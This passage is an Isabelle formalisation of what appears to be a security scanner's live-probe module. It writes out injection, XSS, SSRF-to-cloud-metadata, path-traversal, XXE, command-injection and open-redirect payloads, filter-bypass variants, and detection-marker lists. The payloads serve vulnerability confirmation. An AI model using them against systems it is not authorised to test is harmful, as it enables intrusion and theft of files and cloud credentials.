(* ===== verification/LiveProbes.thy ===== *)
theory LiveProbes
  imports Confirm PayloadSafety
begin

text \<open>
  \<open>packages/confirm/src/live.ts\<close>, the probes and how their answers are judged: the fixed probe set of
  each category, the catalogue of variants the adaptive loop may try, the probe around a composed
  payload, the oracle and the test for ambiguity. Text is written with ASCII dashes and dots.
\<close>

section \<open>URLs\<close>

definition uri_unreserved :: "char \<Rightarrow> bool" where
  "uri_unreserved c \<longleftrightarrow> word_char c \<or> c \<in> set ''-.!~*'' \<or> c = CHR 0x27 \<or> c = CHR ''('' \<or> c = CHR '')''"

definition hex_char :: "nat \<Rightarrow> char" where
  "hex_char n = (if n < 10 then char_of (48 + n) else char_of (55 + n))"

definition percent :: "nat \<Rightarrow> string" where
  "percent n = [CHR 0x25, hex_char (n div 16), hex_char (n mod 16)]"

text \<open>Every other character is written as the bytes of its UTF-8 encoding.\<close>

definition uri_char :: "char \<Rightarrow> string" where
  "uri_char c = (let n = (of_char c :: nat) in
     if uri_unreserved c then [c] else if n < 128 then percent n else percent (192 + n div 64) @ percent (128 + n mod 64))"

definition encodeURIComponent :: "string \<Rightarrow> string" where
  "encodeURIComponent s = concat (map uri_char s)"

text \<open>\<open>concretePath\<close>: the segments in brackets, then the names after a colon.\<close>

function bracket_segments :: "string \<Rightarrow> string" where
  "bracket_segments s =
     (case s of
        [] \<Rightarrow> []
      | c # cs \<Rightarrow>
          (let inside = takeWhile (\<lambda>x. x \<noteq> CHR '']'') cs; rest = dropWhile (\<lambda>x. x \<noteq> CHR '']'') cs in
           if c = CHR ''['' \<and> inside \<noteq> [] \<and> rest \<noteq> [] then CHR ''1'' # bracket_segments (tl rest) else c # bracket_segments cs))"
  by pat_completeness auto

termination
proof (relation "measure length")
  fix s c and cs inside rest :: string
  assume "s = c # cs" "rest = dropWhile (\<lambda>x. x \<noteq> CHR '']'') cs"
  then show "(tl rest, s) \<in> measure length" using length_dropWhile_le[of "\<lambda>x. x \<noteq> CHR '']''" cs] by simp
qed auto

declare bracket_segments.simps [simp del]

function colon_names :: "string \<Rightarrow> string" where
  "colon_names s =
     (case s of
        [] \<Rightarrow> []
      | c # cs \<Rightarrow>
          if c = CHR '':'' \<and> opt_word (next_char cs) then CHR ''1'' # colon_names (dropWhile word_char cs) else c # colon_names cs)"
  by pat_completeness auto

termination
proof (relation "measure length")
  fix s :: string and c :: char and cs :: string
  assume "s = c # cs"
  then show "(dropWhile word_char cs, s) \<in> measure length" using length_dropWhile_le[of word_char cs] by simp
qed auto

declare colon_names.simps [simp del]

definition concretePath :: "string \<Rightarrow> string" where
  "concretePath path = colon_names (bracket_segments path)"

section \<open>Probes\<close>

datatype probe_role = Baseline_role | Payload_role | Adaptive_role

fun role_str :: "probe_role \<Rightarrow> string" where
  "role_str Baseline_role = ''baseline''"
| "role_str Payload_role = ''payload''"
| "role_str Adaptive_role = ''adaptive_payload''"

record live_probe =
  lb_request :: probe_request
  lb_role :: probe_role
  lb_marker :: "string option"
  lb_note :: string

record live_session =
  sn_headers :: "(string, string) jsmap option"

text \<open>What every builder of a probe is given.\<close>

record variant_ctx =
  vx_target :: string
  vx_path :: string
  vx_plainUrl :: string
  vx_param :: string
  vx_headers :: "(string, string) jsmap"
  vx_marker :: string

definition session_headers :: "live_session option \<Rightarrow> (string, string) jsmap" where
  "session_headers session = (case Option.bind session sn_headers of None \<Rightarrow> [] | Some hs \<Rightarrow> hs)"

text \<open>\<open>{ ...base, ...more }\<close>\<close>

definition spread :: "(string, string) jsmap \<Rightarrow> (string, string) jsmap \<Rightarrow> (string, string) jsmap" where
  "spread base extra = foldl (\<lambda>hs (k, v). jm_set k v hs) base extra"

definition variantUrl :: "variant_ctx \<Rightarrow> string \<Rightarrow> string" where
  "variantUrl ctx query = strip_suffix ''/'' (vx_target ctx) @ vx_path ctx @ ''?'' @ query"

definition live_ctx :: "app_map \<Rightarrow> probable_finding \<Rightarrow> app_route option \<Rightarrow> string \<Rightarrow> live_session option \<Rightarrow> string \<Rightarrow> variant_ctx" where
  "live_ctx m finding route target session marker =
     (let path = concretePath (case route of Some r \<Rightarrow> ro_path r | None \<Rightarrow> ''/'') in
      \<lparr>vx_target = target, vx_path = path, vx_plainUrl = strip_suffix ''/'' target @ path,
       vx_param = paramFor m finding (case CATEGORY_DEFAULT_PARAM (pf_category finding) of Some p \<Rightarrow> p | None \<Rightarrow> ''q''),
       vx_headers = spread [(''accept'', ''*/*'')] (session_headers session), vx_marker = marker\<rparr>)"

definition get_probe :: "variant_ctx \<Rightarrow> string \<Rightarrow> probe_role \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> live_probe" where
  "get_probe ctx query role marker note =
     \<lparr>lb_request = \<lparr>pq_method = ''GET'', pq_url = variantUrl ctx query, pq_headers = Some (vx_headers ctx), pq_body = None\<rparr>,
      lb_role = role, lb_marker = marker, lb_note = note\<rparr>"

definition param_probe :: "variant_ctx \<Rightarrow> string \<Rightarrow> probe_role \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> live_probe" where
  "param_probe ctx value role marker note =
     get_probe ctx (encodeURIComponent (vx_param ctx) @ ''='' @ encodeURIComponent value) role marker note"

definition post_probe :: "variant_ctx \<Rightarrow> string \<Rightarrow> string \<Rightarrow> probe_role \<Rightarrow> string option \<Rightarrow> string \<Rightarrow> live_probe" where
  "post_probe ctx content_type body role marker note =
     \<lparr>lb_request = \<lparr>pq_method = ''POST'', pq_url = vx_plainUrl ctx, pq_headers = Some (jm_set ''content-type'' content_type (vx_headers ctx)),
        pq_body = Some body\<rparr>,
      lb_role = role, lb_marker = marker, lb_note = note\<rparr>"

definition plain_probe :: "variant_ctx \<Rightarrow> (string, string) jsmap \<Rightarrow> probe_role \<Rightarrow> string \<Rightarrow> live_probe" where
  "plain_probe ctx headers role note =
     \<lparr>lb_request = \<lparr>pq_method = ''GET'', pq_url = vx_plainUrl ctx, pq_headers = Some headers, pq_body = None\<rparr>,
      lb_role = role, lb_marker = None, lb_note = note\<rparr>"

definition id_marker :: "string \<Rightarrow> probable_finding \<Rightarrow> string" where
  "id_marker front finding = front @ filter (\<lambda>c. word_char c \<and> c \<noteq> CHR ''_'') (pf_id finding)"

definition baseline_value :: string where "baseline_value = ''montr_baseline''"

definition xml_body :: "string \<Rightarrow> string \<Rightarrow> string" where
  "xml_body doctype value = quotes (''<?xml version=`1.0`?>'' @ doctype @ ''<root><value>'' @ value @ ''</value></root>'')"

definition xxe_probes :: "variant_ctx \<Rightarrow> live_probe list" where
  "xxe_probes ctx =
     [post_probe ctx ''application/xml'' (xml_body [] baseline_value) Baseline_role None
        ''baseline XML POST (benign body, no external entity)'',
      post_probe ctx ''application/xml'' (xml_body ''<!DOCTYPE montr [<!ENTITY xxe SYSTEM `file:///etc/passwd`>]>'' ''&xxe;'') Payload_role None
        ''XXE payload (external entity resolving /etc/passwd - read-only, non-destructive)'']"

definition deserialization_probes :: "probable_finding \<Rightarrow> variant_ctx \<Rightarrow> live_probe list" where
  "deserialization_probes finding ctx =
     (let marker = id_marker ''montrDeser'' finding in
      [post_probe ctx ''application/json'' (quotes ''{`value`:`montr_baseline`}'') Baseline_role None ''baseline JSON POST (benign body)'',
       post_probe ctx ''application/json''
         (quotes (''{`@type`:`'' @ marker @ ''`,`value`:`montr_baseline`,`__proto__`:{`polluted`:true}}'')) Payload_role (Some marker)
         ''deserialization-probe payload (malformed typed object; no gadget chain)''])"

fun craftProbes :: "probable_finding \<Rightarrow> live_session option \<Rightarrow> variant_ctx \<Rightarrow> category \<Rightarrow> live_probe list" where
  "craftProbes finding session ctx Sql_injection =
     [param_probe ctx baseline_value Baseline_role None ''baseline request (benign value)'',
      param_probe ctx ''montr' OR '1'='1'' Payload_role None ''boolean-based SQLi payload (' OR '1'='1)'']"
| "craftProbes finding session ctx Nosql_injection =
     [param_probe ctx baseline_value Baseline_role None ''baseline request (benign value)'',
      get_probe ctx (encodeURIComponent (vx_param ctx @ ''[$ne]'') @ ''='' @ encodeURIComponent ''montr_nosqli_disallowed'') Payload_role None
        ''NoSQL operator-injection payload ($ne bracket-notation query param)'']"
| "craftProbes finding session ctx Xss =
     (let marker = id_marker ''montrXSS'' finding in
      [param_probe ctx (''<script>'' @ marker @ ''</script>'') Payload_role (Some marker) ''reflected-XSS payload''])"
| "craftProbes finding session ctx Open_redirect =
     (let marker = ''https://montr-oob.example/redirected'' in
      [param_probe ctx marker Payload_role (Some marker) ''open-redirect payload (off-site next=)''])"
| "craftProbes finding session ctx Ssrf =
     [param_probe ctx ''https://example.com/health'' Baseline_role None ''baseline request (benign external URL)'',
      param_probe ctx ''http://169.254.169.254/latest/meta-data/'' Payload_role None ''SSRF payload targeting the cloud-metadata address'']"
| "craftProbes finding session ctx Idor =
     [param_probe ctx ''1'' Baseline_role None ''baseline request (id=1)'',
      param_probe ctx ''2'' Payload_role None ''IDOR payload - same session, a different resource id (id=2)'']"
| "craftProbes finding session ctx Broken_access_control =
     (if session_headers session = [] then []
      else [plain_probe ctx (vx_headers ctx) Baseline_role ''baseline request WITH session credentials'',
            plain_probe ctx [(''accept'', ''*/*'')] Payload_role
              ''authz-bypass payload - identical request with session/auth headers stripped''])"
| "craftProbes finding session ctx Path_traversal =
     [param_probe ctx ''readme.txt'' Baseline_role None ''baseline request (benign filename)'',
      param_probe ctx ''../../../../../../etc/passwd'' Payload_role None ''path-traversal payload (../ sequence targeting /etc/passwd)'']"
| "craftProbes finding session ctx Command_injection =
     (let marker = id_marker ''montrCMD'' finding in
      [param_probe ctx baseline_value Baseline_role None ''baseline request (benign value)'',
       param_probe ctx (''montr_baseline; echo '' @ marker) Payload_role (Some marker)
         ''command-injection payload (chained `echo` of a unique marker)''])"
| "craftProbes finding session ctx Xxe = xxe_probes ctx"
| "craftProbes finding session ctx Insecure_deserialization = deserialization_probes finding ctx"
| "craftProbes finding session ctx _ = []"

section \<open>The catalogue of variants\<close>

record payload_variant =
  va_id :: string
  va_technique :: string
  va_build :: "variant_ctx \<Rightarrow> live_probe"

definition adaptive :: "(variant_ctx \<Rightarrow> string) \<Rightarrow> (variant_ctx \<Rightarrow> string option) \<Rightarrow> string \<Rightarrow> variant_ctx \<Rightarrow> live_probe" where
  "adaptive value marker note ctx = param_probe ctx (value ctx) Adaptive_role (marker ctx) note"

abbreviation no_marker :: "variant_ctx \<Rightarrow> string option" where "no_marker \<equiv> (\<lambda>ctx. None)"

abbreviation the_marker :: "variant_ctx \<Rightarrow> string option" where "the_marker \<equiv> (\<lambda>ctx. Some (vx_marker ctx))"

definition sqli_variants :: "payload_variant list" where
  "sqli_variants =
     [\<lparr>va_id = ''comment_dash'', va_technique = ''SQLi - alternate end-of-line comment style (-- ) instead of a bare quote'',
       va_build = adaptive (\<lambda>c. ''montr' OR '1'='1' -- -'') no_marker ''adaptive SQLi payload (-- comment-style terminator)''\<rparr>,
      \<lparr>va_id = ''boolean_blind_hash'', va_technique = ''SQLi - numeric-context boolean-blind form with a # (MySQL-style) comment'',
       va_build = adaptive (\<lambda>c. ''montr' OR 1=1#'') no_marker ''adaptive SQLi payload (# comment, numeric boolean-blind)''\<rparr>,
      \<lparr>va_id = ''union_probe'', va_technique = ''SQLi - UNION SELECT NULL column probe, used when a mismatch error is suspected'',
       va_build = adaptive (\<lambda>c. ''montr' UNION SELECT NULL-- -'') no_marker ''adaptive SQLi payload (UNION-based column probe)''\<rparr>,
      \<lparr>va_id = ''time_based_blind'', va_technique = ''SQLi - time-based blind probe with a zero-second sleep (non-destructive: no real delay)'',
       va_build = adaptive (\<lambda>c. ''montr' OR SLEEP(0)-- -'') no_marker ''adaptive SQLi payload (time-based blind, SLEEP(0) - non-destructive)''\<rparr>]"

definition operator_probe :: "string \<Rightarrow> string \<Rightarrow> string \<Rightarrow> variant_ctx \<Rightarrow> live_probe" where
  "operator_probe op value note ctx =
     get_probe ctx (encodeURIComponent (vx_param ctx @ op) @ ''='' @ encodeURIComponent value) Adaptive_role None note"

definition nosql_variants :: "payload_variant list" where
  "nosql_variants =
     [\<lparr>va_id = ''gt_operator'', va_technique = ''NoSQL - $gt operator (always-true comparison) instead of $ne'',
       va_build = operator_probe ''[$gt]'' [] ''adaptive NoSQL payload ($gt bracket-notation operator)''\<rparr>,
      \<lparr>va_id = ''regex_operator'', va_technique = ''NoSQL - $regex match-all operator'',
       va_build = operator_probe ''[$regex]'' ''.*'' ''adaptive NoSQL payload ($regex bracket-notation operator)''\<rparr>,
      \<lparr>va_id = ''exists_operator'', va_technique = ''NoSQL - $exists operator'',
       va_build = operator_probe ''[$exists]'' ''true'' ''adaptive NoSQL payload ($exists bracket-notation operator)''\<rparr>]"

definition ssrf_variants :: "payload_variant list" where
  "ssrf_variants =
     [\<lparr>va_id = ''decimal_ip'', va_technique = ''SSRF - decimal-encoded IP literal bypassing string-based metadata-IP filters'',
       va_build = adaptive (\<lambda>c. ''http://2852039166/latest/meta-data/'') no_marker ''adaptive SSRF payload (decimal IP encoding)''\<rparr>,
      \<lparr>va_id = ''ipv6_mapped'', va_technique = ''SSRF - IPv6-mapped-IPv4 literal encoding'',
       va_build = adaptive (\<lambda>c. ''http://[::ffff:169.254.169.254]/latest/meta-data/'') no_marker
         ''adaptive SSRF payload (IPv6-mapped-IPv4 encoding)''\<rparr>,
      \<lparr>va_id = ''alt_cloud_metadata'', va_technique = ''SSRF - alternate cloud-metadata hostname (GCP) in case the AWS IP literal is filtered'',
       va_build = (\<lambda>ctx. adaptive (\<lambda>c. ''http://metadata.google.internal/computeMetadata/v1/'') no_marker
         ''adaptive SSRF payload (GCP metadata hostname)'' (ctx\<lparr>vx_headers := jm_set ''metadata-flavor'' ''Google'' (vx_headers ctx)\<rparr>))\<rparr>]"

definition xss_variants :: "payload_variant list" where
  "xss_variants =
     [\<lparr>va_id = ''attr_breakout'', va_technique = ''XSS - attribute-context breakout event handler instead of a <script> tag'',
       va_build = adaptive (\<lambda>c. quotes ''` onmouseover='' @ vx_marker c @ quotes '' x=`'') the_marker ''adaptive XSS payload (attribute breakout)''\<rparr>,
      \<lparr>va_id = ''img_vector'', va_technique = ''XSS - <img onerror> vector'',
       va_build = adaptive (\<lambda>c. ''<img src=x onerror='' @ vx_marker c @ ''>'') the_marker ''adaptive XSS payload (<img onerror> vector)''\<rparr>,
      \<lparr>va_id = ''svg_vector'', va_technique = ''XSS - <svg onload> vector'',
       va_build = adaptive (\<lambda>c. ''<svg onload='' @ vx_marker c @ ''>'') the_marker ''adaptive XSS payload (<svg onload> vector)''\<rparr>]"

definition redirect_variants :: "payload_variant list" where
  "redirect_variants =
     [\<lparr>va_id = ''protocol_relative'', va_technique = ''open-redirect - protocol-relative URL (//host/path)'',
       va_build = adaptive (\<lambda>c. ''//montr-oob.example/redirected'') (\<lambda>c. Some ''//montr-oob.example'')
         ''adaptive open-redirect payload (protocol-relative)''\<rparr>,
      \<lparr>va_id = ''backslash_bypass'', va_technique = ''open-redirect - backslash-as-slash bypass'',
       va_build = adaptive (\<lambda>c. CHR ''/'' # CHR 0x5C # ''montr-oob.example/redirected'') (\<lambda>c. Some (CHR ''/'' # CHR 0x5C # ''montr-oob.example''))
         ''adaptive open-redirect payload (backslash bypass)''\<rparr>,
      \<lparr>va_id = ''at_sign_bypass'', va_technique = ''open-redirect - userinfo @ bypass on a trusted-looking prefix'',
       va_build = adaptive (\<lambda>c. ''https://trusted.example@montr-oob.example/redirected'') (\<lambda>c. Some ''https://trusted.example@montr-oob.example'')
         ''adaptive open-redirect payload (userinfo @ bypass)''\<rparr>]"

definition idor_variants :: "payload_variant list" where
  "idor_variants =
     [\<lparr>va_id = ''far_id'', va_technique = ''IDOR - a numerically distant resource id'',
       va_build = adaptive (\<lambda>c. ''999'') no_marker ''adaptive IDOR payload (distant id=999)''\<rparr>,
      \<lparr>va_id = ''negative_id'', va_technique = ''IDOR - a negative resource id (boundary/type-confusion case)'',
       va_build = adaptive (\<lambda>c. ''-1'') no_marker ''adaptive IDOR payload (negative id=-1)''\<rparr>]"

definition access_variants :: "payload_variant list" where
  "access_variants =
     [\<lparr>va_id = ''strip_cookie_only'', va_technique = ''authz-bypass - strip only the session cookie, keep other auth headers'',
       va_build = (\<lambda>ctx. plain_probe ctx (jm_delete ''cookie'' (vx_headers ctx)) Adaptive_role
         ''adaptive authz-bypass payload (cookie stripped only)'')\<rparr>,
      \<lparr>va_id = ''strip_authorization_only'', va_technique = ''authz-bypass - strip only the Authorization header, keep the cookie'',
       va_build = (\<lambda>ctx. plain_probe ctx (jm_delete ''authorization'' (vx_headers ctx)) Adaptive_role
         ''adaptive authz-bypass payload (Authorization header stripped only)'')\<rparr>]"

definition traversal_variants :: "payload_variant list" where
  "traversal_variants =
     [\<lparr>va_id = ''url_encoded_slashes'', va_technique = ''path-traversal - URL-encoded slash sequence (%2f) bypassing naive '../' filters'',
       va_build = adaptive (\<lambda>c. ''..%2f..%2f..%2f..%2f..%2f..%2fetc/passwd'') no_marker
         ''adaptive path-traversal payload (URL-encoded slashes)''\<rparr>,
      \<lparr>va_id = ''double_encoded'', va_technique = ''path-traversal - double URL-encoded sequence bypassing single-decode filters'',
       va_build = adaptive (\<lambda>c. ''..%252f..%252f..%252f..%252f..%252f..%252fetc/passwd'') no_marker
         ''adaptive path-traversal payload (double URL-encoded slashes)''\<rparr>,
      \<lparr>va_id = ''null_byte'', va_technique = ''path-traversal - legacy null-byte suffix bypass'',
       va_build = adaptive (\<lambda>c. ''../../../../../../etc/passwd%00.txt'') no_marker ''adaptive path-traversal payload (null-byte suffix)''\<rparr>]"

definition command_variants :: "payload_variant list" where
  "command_variants =
     [\<lparr>va_id = ''pipe_style'', va_technique = ''command-injection - pipe chaining (|) instead of a semicolon'',
       va_build = adaptive (\<lambda>c. ''montr_baseline | echo '' @ vx_marker c) the_marker ''adaptive command-injection payload (pipe chaining)''\<rparr>,
      \<lparr>va_id = ''backtick_style'', va_technique = ''command-injection - backtick command substitution'',
       va_build = adaptive (\<lambda>c. ''montr_baseline `echo '' @ vx_marker c @ ''`'') the_marker
         ''adaptive command-injection payload (backtick substitution)''\<rparr>,
      \<lparr>va_id = ''dollar_paren_style'', va_technique = ''command-injection - $() command substitution'',
       va_build = adaptive (\<lambda>c. ''montr_baseline $(echo '' @ vx_marker c @ '')'') the_marker ''adaptive command-injection payload ($() substitution)''\<rparr>]"

definition xxe_variants :: "payload_variant list" where
  "xxe_variants =
     [\<lparr>va_id = ''alt_target_file'', va_technique = ''XXE - alternate local target file, in case /etc/passwd specifically is filtered'',
       va_build = (\<lambda>ctx. post_probe ctx ''application/xml'' (xml_body ''<!DOCTYPE montr [<!ENTITY xxe SYSTEM `file:///etc/hostname`>]>'' ''&xxe;'')
         Adaptive_role None ''adaptive XXE payload (alternate target file: /etc/hostname)'')\<rparr>,
      \<lparr>va_id = ''parameter_entity'', va_technique = ''XXE - parameter-entity indirection (still local/read-only, no OOB channel)'',
       va_build = (\<lambda>ctx. post_probe ctx ''application/xml''
         (xml_body (''<!DOCTYPE montr [<!ENTITY % xxe SYSTEM `file:///etc/hostname`>''
            @ ''<!ENTITY % wrap `<!ENTITY combined '%xxe;'>`>%wrap;]>'') ''&combined;'')
         Adaptive_role None ''adaptive XXE payload (parameter-entity indirection)'')\<rparr>]"

definition deserialization_variants :: "payload_variant list" where
  "deserialization_variants =
     [\<lparr>va_id = ''alt_type_marker'', va_technique = ''deserialization - alternate typed-class marker string (still no gadget chain)'',
       va_build = (\<lambda>ctx. post_probe ctx ''application/json'' (quotes (''{`@class`:`'' @ vx_marker ctx @ ''`,`value`:`montr_baseline`}''))
         Adaptive_role (Some (vx_marker ctx)) ''adaptive deserialization payload (alternate @class typed marker)'')\<rparr>,
      \<lparr>va_id = ''nested_polluted'', va_technique = ''deserialization - nested prototype-pollution-shaped structure (still non-executing)'',
       va_build = (\<lambda>ctx. post_probe ctx ''application/json''
         (quotes (''{`@type`:`'' @ vx_marker ctx @ ''`,`value`:{`__proto__`:{`nested`:{`polluted`:true}}}}''))
         Adaptive_role (Some (vx_marker ctx)) ''adaptive deserialization payload (nested prototype-pollution shape)'')\<rparr>]"

fun PAYLOAD_VARIANTS :: "category \<Rightarrow> payload_variant list" where
  "PAYLOAD_VARIANTS Sql_injection = sqli_variants"
| "PAYLOAD_VARIANTS Nosql_injection = nosql_variants"
| "PAYLOAD_VARIANTS Ssrf = ssrf_variants"
| "PAYLOAD_VARIANTS Xss = xss_variants"
| "PAYLOAD_VARIANTS Open_redirect = redirect_variants"
| "PAYLOAD_VARIANTS Idor = idor_variants"
| "PAYLOAD_VARIANTS Broken_access_control = access_variants"
| "PAYLOAD_VARIANTS Path_traversal = traversal_variants"
| "PAYLOAD_VARIANTS Command_injection = command_variants"
| "PAYLOAD_VARIANTS Xxe = xxe_variants"
| "PAYLOAD_VARIANTS Insecure_deserialization = deserialization_variants"
| "PAYLOAD_VARIANTS _ = []"

section \<open>Answers\<close>

record live_response =
  lp_status :: nat
  lp_headers :: "(string, string) jsmap option"
  lp_body :: string

record collected =
  co_probe :: live_probe
  co_response :: live_response

record oracle_verdict =
  ov_success :: bool
  ov_note :: string

definition INJECTION_ERROR_MARKERS :: "string list" where
  "INJECTION_ERROR_MARKERS = [''sql syntax'', ''syntax error'', ''sqlite'', ''sqlstate'', ''pg::'', ''ora-'', ''you have an error in your sql'',
     ''unclosed quotation'', ''mongoerror'', ''bsonerror'', ''castmongoerror'', ''e11000'', ''cast to string failed'']"

definition SSRF_MARKERS :: "string list" where
  "SSRF_MARKERS = [''ami-id'', ''instance-id'', ''iam/security-credentials'', ''security-credentials'', ''computemetadata'', ''metadata-flavor'',
     ''local-ipv4'', ''instance-action'']"

definition DENIAL_MARKERS :: "string list" where
  "DENIAL_MARKERS = [''forbidden'', ''unauthorized'', ''access denied'', ''permission denied'', ''not found'', ''no access'', ''not allowed'']"

definition FILE_DISCLOSURE_MARKERS :: "string list" where
  "FILE_DISCLOSURE_MARKERS = [''root:x:0:0:'', ''daemon:x:'', ''bin:x:'', ''nobody:x:'']"

definition DESERIALIZATION_ERROR_MARKERS :: "string list" where
  "DESERIALIZATION_ERROR_MARKERS = [''invalidclassexception'', ''classnotfoundexception'', ''unpicklingerror'', ''malformed'',
     ''could not deserialize'', ''deserialization'', ''illegal argument: class'', ''not a valid'', ''unexpected token'']"

definition GENERIC_ERROR_MARKERS :: "string list" where
  "GENERIC_ERROR_MARKERS = [''exception'', ''stack trace'', ''traceback'', ''internal server error'', ''unexpected error'', ''unhandled'',
     ''at line'', ''warning:'']"

definition FILTER_BLOCK_MARKERS :: "string list" where
  "FILTER_BLOCK_MARKERS = [''blocked'', ''not allowed'', ''invalid url'', ''invalid host'', ''disallowed'', ''filtered'', ''forbidden host'']"

abbreviation mentions :: "string \<Rightarrow> string list \<Rightarrow> bool" where
  "mentions body markers \<equiv> list_ex (js_includes body) markers"

text \<open>The latest attempt that is not the baseline, and the first baseline.\<close>

definition latest_payload :: "collected list \<Rightarrow> collected option" where
  "latest_payload cs = find (\<lambda>c. lb_role (co_probe c) \<in> {Payload_role, Adaptive_role}) (rev cs)"

definition baseline_of :: "collected list \<Rightarrow> collected option" where
  "baseline_of cs = find (\<lambda>c. lb_role (co_probe c) = Baseline_role) cs"

definition in_2xx :: "live_response \<Rightarrow> bool" where "in_2xx r \<longleftrightarrow> 200 \<le> lp_status r \<and> lp_status r < 300"

definition in_3xx :: "live_response \<Rightarrow> bool" where "in_3xx r \<longleftrightarrow> 300 \<le> lp_status r \<and> lp_status r < 400"

definition location_header :: "live_response \<Rightarrow> string" where
  "location_header r = (case lp_headers r of None \<Rightarrow> []
     | Some hs \<Rightarrow> (case jm_get hs ''location'' of Some l \<Rightarrow> l
         | None \<Rightarrow> (case jm_get hs ''Location'' of Some l \<Rightarrow> l | None \<Rightarrow> [])))"

definition judge :: "(bool \<times> string) list \<Rightarrow> string \<Rightarrow> oracle_verdict" where
  "judge hits miss = (case find fst hits of Some (b, note) \<Rightarrow> \<lparr>ov_success = True, ov_note = note\<rparr> | None \<Rightarrow> \<lparr>ov_success = False, ov_note = miss\<rparr>)"

definition injection_oracle :: "live_response \<Rightarrow> live_response option \<Rightarrow> oracle_verdict" where
  "injection_oracle r base = judge
     [(mentions (js_lower (lp_body r)) INJECTION_ERROR_MARKERS, ''DB error leaked in the response (injection reached the query)''),
      (in_2xx r \<and> (case base of None \<Rightarrow> False | Some b \<Rightarrow> length (lp_body b) + 20 \<le> length (lp_body r)),
       ''boolean-true/operator payload returned materially more data than the baseline'')]
     ''no injection signal (response matched baseline, no error leak)''"

definition disclosure_oracle :: "live_response \<Rightarrow> oracle_verdict" where
  "disclosure_oracle r = judge
     [(mentions (js_lower (lp_body r)) FILE_DISCLOSURE_MARKERS,
       ''payload disclosed local file contents (/etc/passwd signature), proving the traversal/entity reached the filesystem'')]
     ''no file-disclosure signal in the response''"

text \<open>The oracle of each category: probe and answer of the latest attempt, and the answer to the baseline.\<close>

fun category_oracle :: "category \<Rightarrow> string \<Rightarrow> live_response \<Rightarrow> live_response option \<Rightarrow> oracle_verdict" where
  "category_oracle Sql_injection marker r base = injection_oracle r base"
| "category_oracle Nosql_injection marker r base = injection_oracle r base"
| "category_oracle Xss marker r base =
     (if marker \<noteq> [] \<and> js_includes (lp_body r) (''<script>'' @ marker @ ''</script>'')
      then \<lparr>ov_success = True, ov_note = ''payload reflected unescaped in the response body''\<rparr>
      else if marker \<noteq> [] \<and> js_includes (lp_body r) (''&lt;script&gt;'' @ marker)
      then \<lparr>ov_success = False, ov_note = ''payload reflected but HTML-escaped (not exploitable)''\<rparr>
      else \<lparr>ov_success = False, ov_note = ''payload not reflected''\<rparr>)"
| "category_oracle Open_redirect marker r base = judge
     [(in_3xx r \<and> marker \<noteq> [] \<and> js_startsWith (location_header r) (js_join ''/'' (take 3 (js_split_char (CHR ''/'') marker))),
       ''redirect Location honored the attacker-controlled target ('' @ nat_str (lp_status r) @ '')'')]
     ''no off-site redirect observed''"
| "category_oracle Ssrf marker r base = judge
     [(mentions (js_lower (lp_body r)) SSRF_MARKERS, ''response leaked cloud-metadata contents fetched via the server-side request'')]
     ''no metadata-service signal (server did not appear to fetch the internal URL)''"
| "category_oracle Idor marker r base =
     (case base of None \<Rightarrow> \<lparr>ov_success = False, ov_note = ''no baseline response captured''\<rparr>
      | Some b \<Rightarrow> judge
          [(in_2xx r \<and> \<not> mentions (js_lower (lp_body r)) DENIAL_MARKERS \<and> js_trim (lp_body r) \<noteq> [] \<and> lp_body r \<noteq> lp_body b,
            ''a different resource id returned distinct data with no ownership check (IDOR)'')]
          ''access to the other resource id was denied or unchanged (no IDOR signal)'')"
| "category_oracle Broken_access_control marker r base =
     (case base of None \<Rightarrow> \<lparr>ov_success = False, ov_note = ''no baseline response captured''\<rparr>
      | Some b \<Rightarrow> judge
          [(in_2xx b \<and> in_2xx r,
            ''the route returned a successful response even after auth/session headers were stripped (missing access control)'')]
          ''access without credentials was correctly denied'')"
| "category_oracle Path_traversal marker r base = disclosure_oracle r"
| "category_oracle Xxe marker r base = disclosure_oracle r"
| "category_oracle Command_injection marker r base = judge
     [(marker \<noteq> [] \<and> js_includes (lp_body r) marker,
       ''injected shell command executed - its marker output was reflected in the response'')]
     ''marker not reflected; no command-injection signal''"
| "category_oracle Insecure_deserialization marker r base = judge
     [(mentions (js_lower (lp_body r)) DESERIALIZATION_ERROR_MARKERS
         \<or> js_lower marker \<noteq> [] \<and> js_includes (js_lower (lp_body r)) (js_lower marker),
       ''malformed typed payload triggered a deserialization-layer error/echo, proving attacker-controlled data reaches the deserializer'')]
     ''no deserialization-error or type-echo signal''"
| "category_oracle _ marker r base = \<lparr>ov_success = False, ov_note = ''category has no live oracle''\<rparr>"

definition live_oracle :: "category \<Rightarrow> collected list \<Rightarrow> oracle_verdict" where
  "live_oracle c cs =
     (case latest_payload cs of
        None \<Rightarrow> \<lparr>ov_success = False, ov_note = ''no payload response captured''\<rparr>
      | Some p \<Rightarrow> category_oracle c (or_empty (lb_marker (co_probe p))) (co_response p) (map_option co_response (baseline_of cs)))"

fun category_ambiguous :: "category \<Rightarrow> string \<Rightarrow> live_response \<Rightarrow> bool" where
  "category_ambiguous Ssrf marker r \<longleftrightarrow>
     mentions (js_lower (lp_body r)) FILTER_BLOCK_MARKERS \<or> lp_status r = 400 \<or> lp_status r = 403"
| "category_ambiguous Xss marker r \<longleftrightarrow>
     (let m = js_lower marker; body = js_lower (lp_body r) in
      m \<noteq> [] \<and> js_includes body m \<and> \<not> js_includes body (''<script>'' @ m @ ''</script>'') \<and> \<not> js_includes body (''&lt;script&gt;'' @ m))"
| "category_ambiguous Open_redirect marker r \<longleftrightarrow> in_3xx r \<and> location_header r \<noteq> []"
| "category_ambiguous c marker r \<longleftrightarrow>
     c \<in> {Sql_injection, Nosql_injection, Command_injection, Path_traversal, Xxe, Insecure_deserialization, Idor, Broken_access_control}
     \<and> mentions (js_lower (lp_body r)) GENERIC_ERROR_MARKERS"

definition isAmbiguous :: "category \<Rightarrow> collected list \<Rightarrow> bool" where
  "isAmbiguous c cs =
     (case latest_payload cs of
        None \<Rightarrow> False
      | Some p \<Rightarrow>
          (500 \<le> lp_status (co_response p) \<and> \<not> (case baseline_of cs of None \<Rightarrow> False | Some b \<Rightarrow> 500 \<le> lp_status (co_response b)))
          \<or> category_ambiguous c (or_empty (lb_marker (co_probe p))) (co_response p))"

section \<open>The transcript\<close>

definition MAX_SNIPPET :: nat where "MAX_SNIPPET = 512"

definition snippet :: "nat \<Rightarrow> string \<Rightarrow> string" where
  "snippet n s = (if n < length s then take n s @ ''...[truncated '' @ nat_str (length s - n) @ '' chars]'' else s)"

definition REDACTED_HEADERS :: "string list" where
